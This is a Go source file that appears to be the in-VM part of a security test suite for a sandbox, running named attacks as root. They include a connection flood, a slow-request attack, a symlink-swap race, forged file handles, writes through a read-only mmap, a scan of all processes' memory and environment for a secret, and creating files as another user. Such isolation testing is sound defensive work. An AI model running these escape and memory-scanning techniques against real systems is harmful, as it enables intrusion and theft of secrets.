package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// inVM runs one attack in the VM as root: no error means that it worked, or for
// those that only send that it sent.
func inVM(args []string) error {
	if len(args) == 0 {
		return errors.New("which attack?")
	}
	arg := func(n int) string {
		if n < len(args) {
			return args[n]
		}
		return ""
	}
	switch args[0] {
	case "daemon":
		time.Sleep(time.Hour)
	case "mount": // in a new namespace
		return unix.Mount("none", "/proc", "tmpfs", 0, "")
	case "serve":
		uid, err := strconv.Atoi(arg(1))
		if err != nil {
			return err
		}
		return serve(uid)
	case "flood":
		return floodPort(arg(1), arg(2))
	case "race":
		return race(arg(1), arg(2))
	case "handles":
		return forgeHandles(arg(1), arg(2))
	case "mmap":
		return writeMapped(arg(1))
	case "scan":
		return scanMemory(arg(1))
	case "as":
		return createAs(arg(1), arg(2))
	case "tmpfile":
		return linkSetID(arg(1))
	case "vsock":
		return connectVsock()
	case "scsi":
		return passthrough(arg(1))
	case "slow":
		return slowHead(arg(1))
	}
	return fmt.Errorf("no attack %q", args[0])
}

// floodPort opens connections, sends the start of a request on each and holds
// them for two seconds. It prints how many it got.
func floodPort(port, count string) error {
	n, err := strconv.Atoi(count)
	if err != nil {
		return err
	}
	var conns []net.Conn
	for range n {
		c, err := net.DialTimeout("tcp", "127.0.0.1:"+port, 2*time.Second)
		if err != nil {
			break
		}
		_, _ = io.WriteString(c, "GET http://refused.example/ HTTP/1.1\r\n")
		conns = append(conns, c)
	}
	time.Sleep(2 * time.Second)
	for _, c := range conns {
		c.Close()
	}
	fmt.Println(len(conns), "connections")
	return nil
}

// slowHead sends one byte of a request per second and prints when it was cut off.
func slowHead(port string) error {
	c, err := net.Dial("tcp", "127.0.0.1:"+port)
	if err != nil {
		return err
	}
	defer c.Close()
	start := time.Now()
	go func() {
		for range 60 {
			if _, err := io.WriteString(c, "G"); err != nil {
				return
			}
			time.Sleep(time.Second)
		}
	}()
	_ = c.SetReadDeadline(start.Add(50 * time.Second))
	_, err = io.Copy(io.Discard, c)
	fmt.Printf("cut off after %d s: %v\n", int(time.Since(start).Seconds()), err)
	if errors.Is(err, os.ErrDeadlineExceeded) {
		return nil
	}
	return errors.New("refused")
}

// race swaps a folder for a link to the outside while files are made in it.
func race(dir, outside string) error {
	a, b := filepath.Join(dir, "race"), filepath.Join(dir, "race.link")
	if err := os.Mkdir(a, 0o777); err != nil {
		return err
	}
	if err := os.Symlink(outside, b); err != nil {
		return err
	}
	var over atomic.Bool
	time.AfterFunc(3*time.Second, func() { over.Store(true) })
	var all sync.WaitGroup
	all.Go(func() {
		for !over.Load() {
			_ = unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
		}
	})
	for n := range 3 {
		all.Go(func() {
			for i := 0; !over.Load(); i++ {
				path := filepath.Join(a, fmt.Sprintf("raced-%d-%d", n, i%50))
				_ = os.WriteFile(path, []byte("raced"), 0o666)
				_, _ = os.ReadFile(filepath.Join(a, "secret"))
				_ = os.Remove(path)
			}
		})
	}
	all.Wait()
	return nil
}

// forgeHandles opens files by numbers of nodes it was never given.
func forgeHandles(dir, marker string) error {
	f, err := os.Open(dir)
	if err != nil {
		return err
	}
	defer f.Close()
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, dir, 0)
	if err != nil {
		return err
	}
	opened := 0
	for node := uint64(0); node < 2000; node++ {
		b := append([]byte(nil), h.Bytes()...)
		for i := 0; i < 8 && i < len(b); i++ {
			b[i] = byte(node >> (8 * i))
		}
		if len(b) >= 8 { // fuse: node in two halves, the upper one first
			b[0], b[1], b[2], b[3] = 0, 0, 0, 0
			b[4], b[5], b[6], b[7] = byte(node), byte(node>>8), byte(node>>16), byte(node>>24)
		}
		fd, err := unix.OpenByHandleAt(int(f.Fd()), unix.NewFileHandle(h.Type(), b), unix.O_RDONLY)
		if err != nil {
			continue
		}
		opened++
		text := make([]byte, 4096)
		n, _ := unix.Read(fd, text)
		unix.Close(fd)
		if n > 0 && strings.Contains(string(text[:n]), marker) {
			return nil
		}
		if _, err := os.Stat(fmt.Sprintf("/proc/self/fd/%d/../../etc/passwd", fd)); err == nil {
			return nil
		}
	}
	return fmt.Errorf("refused: %d handles opened, none outside", opened)
}

// writeMapped writes a file through shared memory.
func writeMapped(path string) error {
	for _, flags := range []int{unix.O_RDWR, unix.O_RDONLY} {
		fd, err := unix.Open(path, flags, 0)
		if err != nil {
			continue
		}
		m, err := unix.Mmap(fd, 0, 1, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
		unix.Close(fd)
		if err != nil {
			continue
		}
		m[0] = 'X'
		return unix.Msync(m, unix.MS_SYNC)
	}
	return errors.New("refused")
}

// scanMemory looks for a text, whose bytes come in hexadecimal and inverted, in
// the memory, environment and arguments of all processes and in the files that
// the session can read.
func scanMemory(inverted string) error {
	var text []byte
	for i := 0; i+2 <= len(inverted); i += 2 {
		n, err := strconv.ParseUint(inverted[i:i+2], 16, 8)
		if err != nil {
			return err
		}
		text = append(text, ^byte(n))
	}
	key := string(text)
	pids, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		return err
	}
	scanned := 0
	for _, p := range pids {
		if p == fmt.Sprintf("/proc/%d", os.Getpid()) {
			continue
		}
		for _, name := range []string{"environ", "cmdline"} {
			if b, err := os.ReadFile(filepath.Join(p, name)); err == nil && strings.Contains(string(b), key) {
				fmt.Println("found in", p, name)
				return nil
			}
		}
		n, found := scanProcess(p, key)
		scanned += n
		if found {
			fmt.Println("found in the memory of", p)
			return nil
		}
	}
	return fmt.Errorf("refused: %d MiB of memory scanned", scanned>>20)
}

func scanProcess(p, key string) (scanned int, found bool) {
	maps, err := os.ReadFile(filepath.Join(p, "maps"))
	if err != nil {
		return 0, false
	}
	mem, err := os.Open(filepath.Join(p, "mem"))
	if err != nil {
		return 0, false
	}
	defer mem.Close()
	b := make([]byte, 1<<20)
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		if _, err := fmt.Sscanf(line, "%x-%x", &from, &to); err != nil || !strings.Contains(line, "rw") {
			continue
		}
		for at := from; at < to && at-from < 64<<20; at += int64(len(b)) - 256 {
			n, _ := mem.ReadAt(b[:min(int64(len(b)), to-at)], at)
			scanned += n
			if strings.Contains(string(b[:n]), key) {
				return scanned, true
			}
		}
	}
	return scanned, false
}

// createAs makes a file as another user of the VM.
func createAs(path, uid string) error {
	id, err := strconv.Atoi(uid)
	if err != nil {
		return err
	}
	return onThread(func() error {
		if err := setFileUser(id); err != nil {
			return err
		}
		return os.WriteFile(path, nil, 0o666)
	})
}
